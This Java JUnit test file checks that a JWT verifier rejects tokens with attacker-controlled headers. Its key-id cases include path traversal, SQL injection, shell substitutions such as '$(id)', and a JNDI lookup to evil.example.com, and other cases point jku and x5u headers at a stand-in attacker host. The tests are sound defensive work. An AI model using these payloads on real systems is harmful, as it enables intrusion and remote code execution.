// SPDX-License-Identifier: Apache-2.0
package dev.qrtc.edge.token;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.qrtc.testing.TestKeys;
import dev.qrtc.testing.TokenDraft;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.BiFunction;
import java.util.stream.Stream;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What a stranger may write into a token's header (RFC 8725, 2 and 3), on the verifier alone, for each kind of token. */
class HostileHeaderTest {
    private static final Verifiers SERVICE = new Verifiers();

    /** Makes a bad token of a good draft. */
    interface Attack extends BiFunction<TokenDraft, TokenKind, String> {}

    /** Changes the header only; the signature is the service's own, so that nothing else is wrong. */
    interface Change extends BiFunction<TokenDraft, TokenKind, TokenDraft> {}

    static Stream<Arguments> headers() {
        return Stream.of(
                        keyIds(),
                        keysOfTheSenders(),
                        extensions(),
                        types(),
                        Stream.of(
                                attack("ES256 for another algorithm", (t, kind) -> t.header("alg", other(kind))),
                                attack("an algorithm in small letters", (t, kind) -> t.header("alg", "es256")),
                                attack("an algorithm that is a number", (t, kind) -> t.header("alg", 256))))
                .flatMap(attacks -> attacks)
                .flatMap(attack -> Arrays.stream(TokenKind.values())
                        .map(kind -> Arguments.of(attack.getKey(), kind, attack.getValue())));
    }

    // RFC 8725, 3.10: a key id is a name in a map, and nothing is done with it but to look there.
    private static Stream<Map.Entry<String, Attack>> keyIds() {
        return Stream.<Object>of(
                        "../../../dev/null",
                        "..\\..\\windows\\win.ini",
                        "/proc/self/environ",
                        "file:///dev/null",
                        "https://evil.example.com/jwks.json",
                        "' OR 1=1 --",
                        "access-1' UNION SELECT 'x",
                        "$(id)",
                        "${jndi:ldap://evil.example.com/a}",
                        "| id",
                        "access-1\u0000",
                        "access-1 ",
                        "ACCESS-1",
                        "",
                        "a".repeat(2_000),
                        7,
                        List.of("access-1"),
                        Map.of("kid", "access-1"))
                .map(id -> attack("the key id " + id, (t, kind) -> t.header("kid", id)));
    }

    private static Stream<Map.Entry<String, Attack>> keysOfTheSenders() {
        var own = TestKeys.ec("evil", "access");
        return Stream.of(
                attack("no key id", (t, kind) -> t.header("kid", null)),
                attack("the address of a key set", (t, kind) -> t.header("jku", "https://evil.example.com/jwks.json")),
                attack("the address of a certificate", (t, kind) -> t.header("x5u", "https://evil.example.com/c.pem")),
                attack("a certificate", (t, kind) -> t.header("x5c", List.of("MIIB"))),
                attack("a certificate's thumbprint", (t, kind) -> t.header("x5t", "AAAA")),
                attack("a certificate's longer thumbprint", (t, kind) -> t.header("x5t#S256", "AAAA")),
                attack("a key", (t, kind) -> t.header("jwk", own.toParams(OutputControlLevel.PUBLIC_ONLY))),
                Map.entry(
                        "a key that signed it, under our id",
                        (t, kind) -> t.resignedWith(own)
                                .header("kid", SERVICE.key(kind).getKeyId())
                                .header("jwk", own.toParams(OutputControlLevel.PUBLIC_ONLY))
                                .sign()));
    }

    private static Stream<Map.Entry<String, Attack>> extensions() {
        return Stream.of(
                attack(
                        "an unknown extension that is critical",
                        (t, kind) -> t.header("crit", List.of("exp2")).header("exp2", 1)),
                attack("a critical extension that it does not have", (t, kind) -> t.header("crit", List.of("exp2"))),
                attack("a critical extension that is none", (t, kind) -> t.header("crit", List.of("typ"))),
                attack("an empty list of extensions", (t, kind) -> t.header("crit", List.of())),
                attack(
                        "a payload that is not encoded",
                        (t, kind) -> t.header("crit", List.of("b64")).header("b64", false)),
                attack("a payload that is compressed", (t, kind) -> t.header("zip", "DEF")),
                attack("the mark of an encrypted token", (t, kind) -> t.header("enc", "A256GCM")));
    }

    private static Stream<Map.Entry<String, Attack>> types() {
        return Stream.of(
                attack("no type", (t, kind) -> t.header("typ", null)),
                attack("the general type", (t, kind) -> t.header("typ", "JWT")),
                attack(
                        "the type in capitals",
                        (t, kind) -> t.header("typ", kind.type().toUpperCase(Locale.ROOT))),
                attack("the type with its prefix", (t, kind) -> t.header("typ", "application/" + kind.type())),
                attack("a type that is a list", (t, kind) -> t.header("typ", List.of(kind.type()))));
    }

    @ParameterizedTest(name = "{1} token with {0}")
    @MethodSource("headers")
    void a_token_is_refused_with(String name, TokenKind kind, Attack attack) {
        assertTrue(SERVICE.believes(kind, SERVICE.draft(kind).sign()), "but for that it is good");
        assertFalse(SERVICE.believes(kind, attack.apply(SERVICE.draft(kind), kind)));
    }

    private static String other(TokenKind kind) {
        return kind == TokenKind.PAIRING ? "ES256" : "HS256";
    }

    private static Map.Entry<String, Attack> attack(String name, Change change) {
        return Map.entry(name, (draft, kind) -> change.apply(draft, kind).signedAsItIsBy(SERVICE.key(kind)));
    }
}
